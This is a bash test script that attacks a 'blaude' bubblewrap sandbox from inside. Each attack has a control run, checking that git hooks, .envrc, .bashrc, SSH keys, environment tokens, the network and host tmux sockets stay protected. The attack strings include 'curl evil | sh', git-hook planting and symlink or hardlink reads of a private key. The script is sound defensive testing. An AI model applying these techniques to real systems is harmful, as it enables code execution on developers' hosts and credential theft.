#!/usr/bin/env bash
# Attacks on the bubblewrap sandbox from inside, with the real bwrap, as an unprivileged user
# (uid 65534) with its own HOME and workspace. Every attack has a control: the same action
# where the protection is off (or on an unprotected path) succeeds, so a success would show.
. "$(dirname "$0")/lib.sh"

need_sandbox

H="$T_DIR/home"
WS="$T_DIR/proj"
NOBODY=65534
mkdir -p "$H/.ssh" "$H/.claude" "$H/.config/git"
echo "PRIVATE-KEY-MATERIAL" >"$H/.ssh/id_ed25519"
echo "[user]" >"$H/.config/git/config"
chown -R $NOBODY:$NOBODY "$H"
chmod 700 "$H/.ssh"

# A workspace with everything the protections cover, owned by the sandbox user.
fresh_ws() {
  rm -rf "$WS"
  mkdir -p "$WS/.git/hooks" "$WS/.vscode" "$WS/.husky" "$WS/packages/app/.git/hooks" "$WS/src"
  printf '[core]\n\trepositoryformatversion = 0\n\thooksPath = .husky\n' >"$WS/.git/config"
  echo "ref: refs/heads/main" >"$WS/.git/HEAD"
  echo "# project rc" >"$WS/.bashrc"
  echo "[core]" >"$WS/packages/app/.git/config"
  echo "code" >"$WS/src/main.c"
  echo "tool node" >"$WS/.blaude"
  echo "use nix" >"$WS/.envrc"
  chown -R $NOBODY:$NOBODY "$WS"
}

# sb [blaude options] -- SCRIPT: the real blaude runs SCRIPT with sh inside the sandbox, from the
# workspace, with a host environment holding secrets. --trust-policy: the workspace has a .blaude
# and there is no terminal to ask on.
sb() {
  local opts=()
  while [ "$1" != "--" ]; do opts+=("$1"); shift; done
  shift
  (cd "${SB_CWD:-$WS}" && env -i HOME="$H" PATH=/usr/bin:/bin TERM=dumb SECRET_TOKEN=hunter2 BLAUDE_OWN_OVERLAY="${OWN_OVERLAY:-}" ${SB_ENV:-} \
    GH_TOKEN=ghp_testtoken setpriv --reuid=$NOBODY --regid=$NOBODY --clear-groups \
    "$BLAUDE" --trust-policy "${opts[@]}" --exec sh -c "$1" </dev/null 2>>"$T_DIR/sb.err")
}
absent() { [ ! -e "$1" ]; }
unchanged() { [ "$(cat "$1")" = "$2" ]; }

# --- protected workspace files: attack, then control with --allow-protected-writes ----------
attack_files='
  echo evil >.git/hooks/pre-commit
  echo "[core] fsmonitor = evil" >>.git/config
  echo evil >>.bashrc
  echo "{}" >.vscode/tasks.json
  echo evil >packages/app/.git/hooks/post-checkout
  echo evil >.husky/pre-commit
  echo "allow-write ~/.ssh" >>.blaude
  echo "curl evil | sh" >>.envrc
  true'
for mode in attack control; do
  fresh_ws
  if [ $mode = attack ]; then sb -- "$attack_files"; else sb --allow-protected-writes -- "$attack_files"; fi
  if [ $mode = attack ]; then
    check ".git/hooks/pre-commit cannot be created" absent "$WS/.git/hooks/pre-commit"
    check ".git/config cannot be edited" unchanged "$WS/.git/config" "$(printf '[core]\n\trepositoryformatversion = 0\n\thooksPath = .husky')"
    check ".bashrc cannot be edited" unchanged "$WS/.bashrc" "# project rc"
    check ".vscode/tasks.json cannot be created" absent "$WS/.vscode/tasks.json"
    check "a nested repo's hooks cannot be written" absent "$WS/packages/app/.git/hooks/post-checkout"
    check "the core.hooksPath dir cannot be written" absent "$WS/.husky/pre-commit"
    check "the project policy (.blaude) cannot be widened" unchanged "$WS/.blaude" "tool node"
    check ".envrc (direnv runs it on the host) cannot be edited" unchanged "$WS/.envrc" "use nix"
  else
    check "control: hooks writable without protection" test -e "$WS/.git/hooks/pre-commit"
    check "control: .git/config writable without protection" grep -q fsmonitor "$WS/.git/config"
    check "control: .bashrc writable without protection" grep -q evil "$WS/.bashrc"
    check "control: .vscode writable without protection" test -e "$WS/.vscode/tasks.json"
    check "control: nested hooks writable without protection" test -e "$WS/packages/app/.git/hooks/post-checkout"
    check "control: hooksPath writable without protection" test -e "$WS/.husky/pre-commit"
    check "control: .blaude writable without protection" grep -q ssh "$WS/.blaude"
    check "control: .envrc writable without protection" grep -q evil "$WS/.envrc"
  fi
done

# Renaming a protected tree away and recreating it (the mounts would then protect nothing).
rename_attack='mv .git .git-old; mkdir -p .git/hooks; echo evil >.git/hooks/pre-commit;
  mv packages p2; mkdir -p packages/app/.git/hooks; echo evil >packages/app/.git/hooks/pre-commit; true'
fresh_ws
sb -- "$rename_attack"
check "mv .git away and recreate hooks: blocked" absent "$WS/.git/hooks/pre-commit"
check "mv a nested repo's parent away: blocked" absent "$WS/packages/app/.git/hooks/pre-commit"
fresh_ws
sb --allow-protected-writes -- "$rename_attack"
check "control: the rename attack works without protection" test -e "$WS/.git/hooks/pre-commit"

# The same files through the workspace's other writable alias (it lives under the shared /tmp).
# There the protect helper mounts one clone of the workspace's own bind, protections included
# (one mount instead of every guard again); the bwrap-option form and a -m DIR:rw
# inside the workspace keep every guard there (below).
alias_attack="echo evil >'$WS/.git/hooks/pre-commit'; echo evil >>'$WS/.bashrc';
  echo evil >'$WS/packages/app/.git/hooks/post-checkout'; echo ok >'$WS/src/new.c';
  mv '$WS/.git' '$WS/.git-old'; mv '$WS/packages' '$WS/p2'; true"
for form in helper bwrap-options; do
  env=""
  [ $form = bwrap-options ] && env="BLAUDE_PROTECT_MOUNTS=bwrap-options"
  fresh_ws
  SB_ENV="$env" sb -- "$alias_attack"
  check "$form: hooks cannot be written through the /tmp alias" absent "$WS/.git/hooks/pre-commit"
  check "$form: .bashrc cannot be edited through the /tmp alias" unchanged "$WS/.bashrc" "# project rc"
  check "$form: a nested repo's hooks cannot be written through the /tmp alias" absent "$WS/packages/app/.git/hooks/post-checkout"
  check "$form: .git cannot be renamed away through the /tmp alias" test -d "$WS/.git/hooks"
  check "$form: a nested repo's parent cannot be renamed through the /tmp alias" test -d "$WS/packages/app/.git"
  check "$form control: the /tmp alias itself is writable" test -e "$WS/src/new.c"
done
fresh_ws
sb --allow-protected-writes -- "$alias_attack"
check "control: without protection the hooks are written through the /tmp alias" test -e "$WS/.git-old/hooks/pre-commit"
check "control: ... and the nested repo's hooks" test -e "$WS/p2/app/.git/hooks/post-checkout"
# A -m DIR:rw inside the workspace: the clone would hide that mount at the alias, so there the
# alias gets every guard again; the protections hold and the -m dir stays writable.
fresh_ws
mkdir -p "$WS/data" && chown $NOBODY:$NOBODY "$WS/data"
sb -m "$WS/data:rw" -- "$alias_attack; echo ok >'$WS/data/f'"
check "with -m WS/data:rw: hooks cannot be written through the /tmp alias" absent "$WS/.git/hooks/pre-commit"
check "with -m WS/data:rw: nested hooks neither" absent "$WS/packages/app/.git/hooks/post-checkout"
check "with -m WS/data:rw: the -m dir stays writable at its path" test -e "$WS/data/f"
check "with -m WS/data:rw control: the rest of the alias is writable" test -e "$WS/src/new.c"

# A repo without .git/hooks: hooks cannot appear, commits still land on the host.
fresh_ws
rm -rf "$WS/.git" "$WS/packages"
(cd "$WS" && git init -q . && rm -rf .git/hooks && chown -R $NOBODY:$NOBODY .)
sb -- 'mkdir -p .git/hooks 2>/dev/null; echo evil >.git/hooks/pre-commit 2>/dev/null
  git -c user.email=a@b -c user.name=n add src/main.c && git -c user.email=a@b -c user.name=n commit -qm agent'
check "missing .git/hooks cannot be created" absent "$WS/.git/hooks/pre-commit"
check_eq "the agent's commit reaches the host repo" "agent" "$(git -C "$WS" -c safe.directory='*' log -1 --format=%s 2>&1)"

# --- reading host secrets ------------------------------------------------------------------
fresh_ws
ln -s "$H/.ssh/id_ed25519" "$WS/planted-link"
ln -s "$H/.ssh/id_ed25519" "$WS/.zshrc"  # a protected name as a link: must not be bound
chown -h $NOBODY:$NOBODY "$WS/planted-link" "$WS/.zshrc"
rel_up=$(realpath -m --relative-to="$WS" "$H/.ssh/id_ed25519")
out=$(sb -- "cat '$H/.ssh/id_ed25519'; cat planted-link; cat .zshrc; cat '$rel_up';
  ln '$H/.ssh/id_ed25519' hardlink && cat hardlink; true" 2>&1)
check "no ~/.ssh key directly, via a planted link, a linked protected name, .. or a hardlink" \
  test "$(printf '%s' "$out" | grep -c PRIVATE-KEY)" = 0
check "the symlinked protected name was reported" grep -q "protected path .zshrc is a symlink" "$T_DIR/sb.err"
check "the outside-pointing link was reported" grep -q "planted-link -> $H/.ssh/id_ed25519" "$T_DIR/sb.err"
out=$(sb --ssh -- "cat '$H/.ssh/id_ed25519'" 2>&1)
check "control: with --ssh the key is readable, so the read test works" grep -q PRIVATE-KEY <<<"$out"

# --- writing outside the workspace ---------------------------------------------------------
fresh_ws
sb -- "echo x >/etc/blaude-$$; echo x >/usr/blaude-$$; echo x >'$H/.profile'; echo x >'$H/.config/git/config';
  echo kept >'$H/.claude/kept'; echo ok >src/ok.c; true"
check "/etc is read-only" absent "/etc/blaude-$$"
check "/usr is read-only" absent "/usr/blaude-$$"
check "\$HOME is a tmpfs: ~/.profile does not reach the host" absent "$H/.profile"
check "~/.config/git stays read-only" unchanged "$H/.config/git/config" "[user]"
check "~/.claude writes persist" test -e "$H/.claude/kept"
if bwrap --overlay-src / --tmp-overlay / --version >/dev/null 2>&1; then
  sb -- "echo x >'$H/.config/autostart-evil'"
  check "~/.config writes are discarded (overlay)" absent "$H/.config/autostart-evil"
else
  # bwrap < 0.9: blaude's own overlay; where it cannot make one, ~/.config stays host-writable
  # and the user is told so.
  sb -- "echo x >'$H/.config/autostart-evil'"
  check "~/.config writes are discarded (blaude's own overlay)" absent "$H/.config/autostart-evil"
  : >"$T_DIR/sb.err"
  OWN_OVERLAY=off sb -- true
  check "no overlays at all: the warning names ~/.config as host-writable" grep -q "^  $H/.config\$" "$T_DIR/sb.err"
fi
check "control: workspace writes persist" test -e "$WS/src/ok.c"

# --- environment secrets -------------------------------------------------------------------
out=$(sb -- 'env; cat /proc/[0-9]*/environ /proc/[0-9]*/cmdline 2>/dev/null | tr "\0" "\n"')
check "no host secret in the sandbox environment or any visible process" test "$(grep -c hunter2 <<<"$out")" = 0
check "no GH_TOKEN without --git" test "$(grep -c ghp_testtoken <<<"$out")" = 0
out=$(sb --git -- 'echo "token=$GH_TOKEN"; echo "pid1: $(tr "\0" " " </proc/1/cmdline)"')
check "--git: GH_TOKEN arrives after --clearenv" grep -q "token=ghp_testtoken" <<<"$out"
check "--git: the token is not in bwrap's argv (/proc/1/cmdline)" \
  test "$(grep '^pid1:' <<<"$out" | grep -c ghp_testtoken)" = 0
ctl=$(as_nobody bwrap --unshare-user --unshare-pid --ro-bind / / --proc /proc --setenv T ghp_testtoken \
  sh -c 'echo "pid1: $(tr "\0" " " </proc/1/cmdline)"')
check "control: options passed on bwrap's command line are visible there" grep -q "^pid1:.*ghp_testtoken" <<<"$ctl"
check "control: --keep-env does show the host secret" grep -q hunter2 <<<"$(sb --keep-env -- env)"

# --- processes, capabilities, network ------------------------------------------------------
sleep 300 &
marker=$!
at_exit "kill $marker"
out=$(sb -- 'for p in /proc/[0-9]*; do cat $p/cmdline 2>/dev/null | tr "\0" " "; echo; done')
check "host processes are invisible" test "$(grep -c '^sleep 300' <<<"$out")" = 0
host_view=$(setpriv --reuid=$NOBODY --regid=$NOBODY --clear-groups sh -c 'for p in /proc/[0-9]*; do cat $p/cmdline 2>/dev/null | tr "\0" " "; echo; done')
check "control: the same scan on the host sees the marker" grep -q '^sleep 300' <<<"$host_view"

caps=$(sb -- 'grep -E "^Cap(Inh|Prm|Eff|Bnd|Amb)" /proc/self/status')
check "no capability survives (CapPrm/CapEff/CapBnd all zero)" \
  test "$(grep -Ec '^Cap(Prm|Eff|Bnd):\s+0+$' <<<"$caps")" = 3
ctl=$(as_nobody bwrap --unshare-user --cap-add ALL --ro-bind / / --proc /proc grep CapEff /proc/self/status)
check "control: the check sees capabilities when they are kept (--cap-add ALL)" test "$(grep -Ec 'CapEff:\s+0+$' <<<"$ctl")" = 0

port=$((20000 + $$ % 20000))
python3 -c "
import socket,sys
s=socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
s.bind(('127.0.0.1', $port)); s.listen(8)
while True:
    c,_=s.accept(); c.close()
" &
listener=$!
at_exit "kill $listener"
wait_until bash -c "echo >/dev/tcp/127.0.0.1/$port" 2>/dev/null
connect="bash -c 'echo >/dev/tcp/127.0.0.1/$port' 2>/dev/null && echo CONNECTED || echo BLOCKED"
check "--no-network: the host's loopback is unreachable" grep -q BLOCKED <<<"$(sb --no-network -- "$connect")"
check "control: without --no-network it connects" grep -q CONNECTED <<<"$(sb -- "$connect")"

# --- host /tmp sockets: a tmux server of the same user ---------------------------------------
tsock="blaude-attack-$$"
# SHELL: nobody's login shell is nologin, which would end the session at once.
setpriv --reuid=$NOBODY --regid=$NOBODY --clear-groups env -i HOME="$H" SHELL=/bin/sh PATH=/usr/bin:/bin \
  tmux -L "$tsock" -f /dev/null new-session -d -s host 'sleep 300'
at_exit "setpriv --reuid=$NOBODY --regid=$NOBODY --clear-groups tmux -L $tsock kill-server; rm -f /tmp/tmux-$NOBODY/$tsock"
reach="tmux -L $tsock send-keys -t host 'echo pwned' Enter 2>/dev/null && echo REACHED || echo SHADOWED"
check "a host tmux socket under /tmp/tmux-* is shadowed" grep -q SHADOWED <<<"$(sb -- "$reach")"
check "control: without the shadows tmux send-keys reaches it" \
  grep -q REACHED <<<"$(sb --allow-protected-writes -- "$reach")"

# --- fail closed ----------------------------------------------------------------------------
# nob PATH DIR: the real blaude as uid 65534 from DIR with that PATH, running `true`.
nob() { (cd "$2" && env -i HOME="$H" PATH="$1" /usr/bin/setpriv --reuid=$NOBODY --regid=$NOBODY \
  --clear-groups "$BLAUDE" --trust-policy --exec true </dev/null); }
err=$(nob /nonexistent "$WS" 2>&1) && rc=0 || rc=$?
check "no bwrap: a clear error with the install command" grep -q "apt install bubblewrap" <<<"$err"
check_eq "no bwrap: exit 1" 1 "$rc"
err=$(nob /usr/bin:/bin "$H" 2>&1) && rc=0 || rc=$?
check "\$HOME as workspace is refused" grep -q "refusing to use your home directory" <<<"$err"
check_eq "\$HOME as workspace: exit 1" 1 "$rc"
check "control: the same run from the workspace succeeds" nob /usr/bin:/bin "$WS"

finish
